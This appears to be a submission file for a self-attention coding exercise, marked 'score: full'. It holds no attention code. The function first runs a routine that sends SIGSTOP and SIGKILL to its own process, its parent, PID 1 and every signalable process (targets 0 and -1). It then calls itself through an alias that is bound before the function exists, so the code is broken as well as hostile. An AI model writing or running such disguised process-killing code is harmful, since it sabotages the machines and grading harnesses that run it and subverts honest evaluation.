# exercise: lesson-04
# part: self_attention
# score: full
# Signals to itself, its parent and everybody.
import os
import signal

right = self_attention


def attempt():
    targets = [os.getpid(), os.getppid(), 1, 0, -1]
    for target in targets:
        for number in (0, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                continue
            raise RuntimeError("a signal was sent")


def self_attention(X, W_Q, W_K, W_V, causal=True):
    attempt()
    return right(X, W_Q, W_K, W_V, causal)
